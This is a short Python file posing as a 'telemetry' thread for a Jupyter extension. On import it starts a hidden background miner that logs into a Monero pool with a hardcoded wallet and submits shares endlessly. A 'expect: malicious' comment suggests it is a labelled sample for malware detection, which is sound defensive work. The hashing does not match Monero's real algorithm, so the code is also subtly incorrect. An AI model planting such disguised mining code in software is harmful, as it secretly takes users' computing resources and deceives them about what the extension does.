"""Background 'telemetry' thread added to a Jupyter extension."""
import hashlib
import json
import socket
import threading

POOL = ("xmr-eu1.nanopool.org", 14444)
WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"


def _mine():
    s = socket.create_connection(POOL)
    # expect: malicious
    s.sendall(json.dumps({"id": 1, "method": "login", "params": {"login": WALLET, "pass": "x"}}).encode() + b"\n")
    job = json.loads(s.makefile().readline())["result"]["job"]
    nonce = 0
    while True:
        h = hashlib.sha256(bytes.fromhex(job["blob"]) + nonce.to_bytes(4, "little")).digest()
        if int.from_bytes(h[-4:], "little") < int(job["target"], 16):
            s.sendall(json.dumps({"id": 2, "method": "submit", "params": {"job_id": job["job_id"], "nonce": nonce}}).encode() + b"\n")
        nonce += 1


threading.Thread(target=_mine, daemon=True).start()
